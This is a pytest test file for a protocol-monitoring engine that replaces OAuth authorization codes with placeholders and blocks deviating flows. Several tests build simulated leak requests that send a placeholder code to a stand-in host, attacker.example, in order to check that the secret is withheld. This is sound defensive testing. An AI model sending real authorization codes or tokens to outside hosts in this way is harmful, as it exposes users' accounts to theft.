import io
import json
import re

import pytest

from conftest import CODE, REDIRECT, phi1, phi2, phi3
from protomon.automaton import FLOW_DEVIATION, INTEGRITY_FAILURE
from protomon.engine import (
    EngineConfig,
    MonitorContext,
    VerdictLog,
    make_placeholder,
    secret_forms,
)
from protomon.errors import EntropyUnavailable
from protomon.http import make_request, make_response

PH = re.compile(r"WPSE-[0-9a-f]{32}")


def _to_phi2(ctx):
    assert ctx.on_request(phi1()).allowed
    v = ctx.on_response(phi2())
    assert v.allowed
    return v


def test_secret_replaced_by_placeholder(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    v = _to_phi2(ctx)
    loc = v.event.headers.get("Location")
    assert CODE not in loc
    (ph,) = v.created
    assert PH.fullmatch(ph) and loc == f"{REDIRECT}?code={ph}"
    assert v.rewritten
    entry = v.secrets[ph]
    assert entry.secret == CODE and CODE not in repr(entry)
    assert sorted(map(str, entry.origins)) == ["https://accounts.google.com/", "https://rp.example/"]


def test_placeholder_substituted_toward_rp(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    (ph,) = _to_phi2(ctx).created
    v = ctx.on_request(make_request("GET", f"{REDIRECT}?code={ph}"))
    assert v.allowed and v.substituted == (ph,)
    assert str(v.event.url) == f"{REDIRECT}?code={CODE}"
    assert not ctx.in_run and len(ctx.vault) == 0  # final state resets


def test_placeholder_withheld_toward_attacker(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    (ph,) = _to_phi2(ctx).created
    leak = make_request("GET", f"https://attacker.example/c?x={ph}", [("Referer", f"{REDIRECT}?code={ph}")])
    v = ctx.on_request(leak)
    assert v.allowed and v.classification == "unrelated"
    assert v.withheld == (ph,) and CODE not in str(v.event.url)
    assert CODE not in v.event.headers.get("Referer")
    assert v.notes == (f"secrecy-confinement: {ph} withheld",)
    assert ctx.in_run  # the run continues


def test_integrity_block_resets(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    _to_phi2(ctx)
    v = ctx.on_request(phi3(redirect="https://rp.example/elsewhere"))
    assert v.blocked and v.reason == INTEGRITY_FAILURE and v.event is None
    assert v.state_after == ref_auto.init and not ctx.in_run


def test_flow_deviation_at_init(ref_auto, make_ctx):
    v = make_ctx(ref_auto).on_request(phi3())
    assert v.blocked and v.reason == FLOW_DEVIATION


def test_block_then_fresh_run(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    _to_phi2(ctx)
    assert ctx.on_request(phi1()).blocked  # φ1 shape is a deviation mid-run
    _to_phi2(ctx)
    (ph,) = ctx.vault
    assert ctx.on_request(phi3(code=ph)).allowed


def test_run_timeout_from_last_step(ref_auto, make_ctx, clock):
    ctx = make_ctx(ref_auto)
    ctx.on_request(phi1())
    clock.t += 200
    ctx.on_response(phi2())
    clock.t += 299  # 499 s since start, 299 since the last step
    assert ctx.in_run
    clock.t += 2
    v = ctx.on_request(phi3())
    assert "run timed out; reset" in v.diagnostics
    assert v.blocked and v.reason == FLOW_DEVIATION


def test_unrelated_traffic_passes_unchanged(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    ctx.on_request(phi1())
    req = make_request("GET", "https://cdn.example/app.js")
    v = ctx.on_request(req)
    assert v.allowed and v.event == req and not v.rewritten
    resp = make_response(200, "https://cdn.example/app.js", [("Content-Type", "text/javascript")], b"x")
    assert ctx.on_response(resp).event == resp


def test_percent_encoded_secret_stripped(ref_auto, make_ctx):
    code = "abc/def+ghi" + "x" * 30
    ctx = make_ctx(ref_auto)
    ctx.on_request(phi1())
    ctx.on_response(phi2(code=code))
    (ph,) = ctx.vault
    leaky = make_response(200, "https://accounts.google.com/x",
                          [("X-Echo", "code=abc%2Fdef%2Bghi" + "x" * 30)])
    assert ctx.on_response(leaky).event.headers.get("X-Echo") == f"code={ph}"
    assert set(secret_forms(code)) >= {code, "abc%2Fdef%2Bghi" + "x" * 30}


def test_form_body_rewrite_is_opt_in(ref_auto, make_ctx):
    body_resp = make_response(200, "https://accounts.google.com/x", [("Content-Type", "text/html")],
                              f"<p>{CODE}</p>".encode())
    off = make_ctx(ref_auto)
    _to_phi2(off)
    assert CODE.encode() in off.on_response(body_resp).event.body
    on = make_ctx(ref_auto, EngineConfig(rewrite_form_body=True))
    _to_phi2(on)
    assert CODE.encode() not in on.on_response(body_resp).event.body


def test_substitute_before_classify(ref_auto, make_ctx):
    # the φ3 guard requires a ≥40-char code; the 37-char placeholder only fits after substitution
    ctx = make_ctx(ref_auto)
    (ph,) = _to_phi2(ctx).created
    assert len(ph) == 37
    v = ctx.on_request(phi3(code=ph))
    assert v.allowed and v.classification == "step"


def test_make_placeholder_format_and_uniqueness():
    seen = {make_placeholder() for _ in range(10_000)}
    assert len(seen) == 10_000
    assert all(PH.fullmatch(p) for p in seen)
    p = make_placeholder(EngineConfig(placeholder_prefix="PH_", placeholder_entropy_bytes=20))
    assert re.fullmatch(r"PH_[0-9a-f]{40}", p)


def test_make_placeholder_skips_existing():
    draws = iter([b"\x00" * 16, b"\x00" * 16, b"\x01" * 16])
    existing = {"WPSE-" + "00" * 16}
    assert make_placeholder(token_source=lambda n: next(draws), existing=existing) == "WPSE-" + "01" * 16


def test_low_entropy_rejected():
    with pytest.raises(ValueError):
        EngineConfig(placeholder_entropy_bytes=15)
    with pytest.raises(ValueError):
        EngineConfig(run_timeout=0)


def test_entropy_unavailable(ref_auto):
    def broken(n):
        raise NotImplementedError("no entropy")
    with pytest.raises(EntropyUnavailable):
        make_placeholder(token_source=broken)
    ctx = MonitorContext(ref_auto, token_source=broken, clock=lambda: 0.0)
    ctx.on_request(phi1())
    with pytest.raises(EntropyUnavailable):
        ctx.on_response(phi2())


def test_identifiers_are_write_once(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    ctx.on_request(phi1())
    with pytest.raises(AssertionError):
        ctx.env.bind("uri1", "https://other.example/", ctx.current_state)


def test_verdict_log_never_contains_plaintext(ref_auto, clock):
    buf = io.StringIO()
    ctx = MonitorContext(ref_auto, clock=clock, log=VerdictLog(buf))
    ctx.on_request(phi1())
    (ph,) = ctx.on_response(phi2()).created
    ctx.on_request(make_request("GET", f"https://attacker.example/?c={ph}"))
    ctx.on_request(phi3(code=ph))
    text = buf.getvalue()
    assert CODE not in text
    records = [json.loads(ln) for ln in text.splitlines()]
    assert [r["classification"] for r in records] == ["step", "step", "unrelated", "step"]
    assert records[2]["withheld"] == [ph] and records[3]["substituted"] == [ph]


def test_snapshot_restore_round_trip(ref_auto, make_ctx):
    ctx = make_ctx(ref_auto)
    _to_phi2(ctx)
    snap = ctx.snapshot()
    ctx.on_request(phi3(redirect="https://rp.example/x"))
    assert not ctx.in_run
    ctx.restore(snap)
    (ph,) = ctx.vault
    assert ctx.on_request(phi3(code=ph)).allowed
